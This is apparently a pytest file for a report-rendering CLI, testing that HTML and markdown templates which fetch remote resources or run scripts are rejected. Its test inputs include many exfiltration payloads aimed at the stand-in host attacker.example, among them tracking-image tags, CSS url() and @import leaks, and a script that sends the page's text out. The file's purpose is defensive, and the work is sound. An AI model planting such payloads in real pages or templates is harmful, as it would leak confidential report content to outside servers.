"""An HTML paper fetches nothing and runs nothing when it is opened (render/html_safety.py), as
the PDF fetches nothing: a template from the plan folder must not be able to send the paper's
text, restricted notes and all, to a server in an image's address, or learn who read it."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from conftest import BUNDLED_PLAN, FIXTURES, copy_plan, plan_with_template
from vawg_cli.cli import app
from vawg_cli.render.html_safety import reaching_out, where_it_leads

LEAK = "https://attacker.example/p.gif?n=SECRET"

REACHING = [
    f'<img src="{LEAK}">',
    f'<img srcset="data:image/png;base64,AA 1x, {LEAK} 2x">',
    "<script>fetch('/x')</script>",
    '<svg><script href="x.js"/></svg>',
    '<iframe src="about:blank"></iframe>',
    '<object data="x.pdf"></object>',
    '<embed src="x.swf">',
    '<base href="https://attacker.example/">',
    f'<link rel="stylesheet" href="{LEAK}">',
    f'<link rel="icon" href="{LEAK}">',
    f'<link rel="canonical stylesheet" href="{LEAK}">',
    '<meta http-equiv="Refresh" content="0; url=https://attacker.example/">',
    '<body onload="alert(1)">',
    '<p onmouseover="x()">hover</p>',
    f"<div style=\"background: url('{LEAK}')\"></div>",
    f"<style>body {{ background: url({LEAK}) }}</style>",
    '<style>@import "https://attacker.example/a.css";</style>',
    "<style>@import url(x.css);</style>",
    "<style>p { background: image-set('a.png' 1x) }</style>",
    f'<svg><image href="{LEAK}"/></svg>',
    f'<svg><use xlink:href="{LEAK}#a"/></svg>',
    f'<video poster="{LEAK}"></video>',
    f'<table background="{LEAK}"></table>',
    f'<form action="{LEAK}"><button>Go</button></form>',
    f'<a href="https://ok.example/" ping="{LEAK}">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    f'<img src="  {LEAK}">',
    f'<IMG SRC="{LEAK}">',
]

HARMLESS = [
    "<p>a note that says data=5 and onload=x and src=http://x url(http://x)</p>",
    "<p>&lt;img src=&quot;https://attacker.example/&quot;&gt;</p>",  # plan text, escaped: text
    '<a href="https://www.bexley.gov.uk/">the council</a>',
    '<a href="#decisions">below</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    '<img srcset="data:image/png;base64,iVBORw0KGgo= 1x, data:image/png;base64,AAAA 2x">',
    '<link rel="canonical" href="https://www.bexley.gov.uk/vawg">',
    "<style>.rag { background: #c00; } @media print { a { color: black } }</style>",
    "<style>.logo { background: url(data:image/svg+xml;base64,PHN2Zz4=) }</style>",
    '<svg viewBox="0 0 10 10"><a href="#x"><rect width="1" height="1"/></a></svg>',
]


@pytest.mark.parametrize("html", REACHING)
def test_what_would_fetch_or_run_is_found(html: str) -> None:
    found = reaching_out(f"<!DOCTYPE html><html><head></head><body>{html}</body></html>")
    assert found is not None
    assert "SECRET" not in found  # said without the address's path or query


@pytest.mark.parametrize("html", HARMLESS)
def test_what_a_paper_may_hold_is_not(html: str) -> None:
    assert reaching_out(f"<!DOCTYPE html><html><body>{html}</body></html>") is None


@pytest.mark.parametrize("plan", [BUNDLED_PLAN, FIXTURES / "board", FIXTURES / "measures"])
def test_vawgs_own_html_paper_fetches_nothing(plan: Path, tmp_path: Path) -> None:
    own = copy_plan(plan, tmp_path / "plan")
    args = ["report", "--plan", str(own), "--quarter", "2025-Q3", "--as-of", "2026-01-15", "--format", "html"]
    result = CliRunner().invoke(app, [*args, "--include-restricted"])
    assert result.exit_code == 0, result.output
    assert reaching_out(result.stdout) is None


@pytest.mark.parametrize(
    "extra",
    [
        '<img src="https://attacker.example/p.gif?n={{ report.plan_title|urlencode }}SECRET">',
        "<script>new Image().src='https://attacker.example/'+document.body.innerText</script>",
    ],
)
def test_a_plan_template_that_reaches_out_makes_no_paper(extra: str, tmp_path: Path) -> None:
    plan = plan_with_template(
        FIXTURES / "board", tmp_path / "plan", "report.html.j2", '{% include "shipped/report.html.j2" %}' + extra + "\n"
    )
    out = tmp_path / "paper.html"
    result = CliRunner().invoke(
        app,
        [
            "report",
            "--plan",
            str(plan),
            "--quarter",
            "2025-Q3",
            "--as-of",
            "2026-01-15",
            "--include-restricted",
            "-o",
            str(out),
        ],
    )
    assert result.exit_code == 1, result.output
    assert "must not fetch anything or run anything" in result.output
    assert "SECRET" not in result.output
    assert not out.exists()


def test_where_an_address_leads_leaves_out_what_it_carries() -> None:
    assert where_it_leads("https://attacker.example/p.gif?n=SECRET") == "https://attacker.example/…"
    assert where_it_leads("https://SECRET%20words@attacker.example/") == "https://attacker.example/…"
    assert where_it_leads("//attacker.example/x?SECRET") == "//attacker.example/…"  # a server, not a file
    assert where_it_leads("http://[SECRET") == "an address that cannot be read"  # no traceback
    assert where_it_leads("file:///etc/passwd") == "file:…"
    assert where_it_leads("images/logo.png") == "a file beside the paper"


@pytest.mark.parametrize(
    "extra",
    [
        "![logo](https://attacker.example/p.png?t={{ report.plan_title|urlencode }}SECRET)",
        "![logo]( <https://attacker.example/p.png> )",
        "![a [nested] alt](https://attacker.example/SECRET.png)",  # brackets in pairs within the text
        "![logo][l]\n\n[l]: https://attacker.example/SECRET.png",
        '<img src="https://attacker.example/SECRET.png">',
    ],
)
def test_a_markdown_template_that_shows_an_image_from_a_server_makes_no_paper(extra: str, tmp_path: Path) -> None:
    plan = plan_with_template(
        FIXTURES / "board", tmp_path / "plan", "report.md.j2", '{% include "shipped/report.md.j2" %}\n' + extra + "\n"
    )
    result = CliRunner().invoke(
        app, ["report", "--plan", str(plan), "--quarter", "2025-Q3", "--as-of", "2026-01-15", "--format", "md"]
    )
    assert result.exit_code == 1, result.output
    assert "must not fetch anything when it is shown" in result.output
    assert "SECRET" not in result.output


@pytest.mark.parametrize("plan", [BUNDLED_PLAN, FIXTURES / "board", FIXTURES / "measures"])
def test_a_markdown_template_built_on_vawgs_own_makes_its_paper(plan: Path, tmp_path: Path) -> None:
    own = copy_plan(plan, tmp_path / "plan")
    (own / "templates").mkdir(exist_ok=True)
    (own / "templates" / "report.md.j2").write_text(
        '{% include "shipped/report.md.j2" %}\n![crest](data:image/png;base64,iVBORw0KGgo=)\n'
        "See [the council](https://www.bexley.gov.uk/) and <https://www.bexley.gov.uk/vawg>.\n",
        encoding="utf-8",
    )
    args = ["report", "--plan", str(own), "--quarter", "2025-Q3", "--as-of", "2026-01-15", "--format", "md"]
    result = CliRunner().invoke(app, [*args, "--include-restricted"])
    assert result.exit_code == 0, result.output
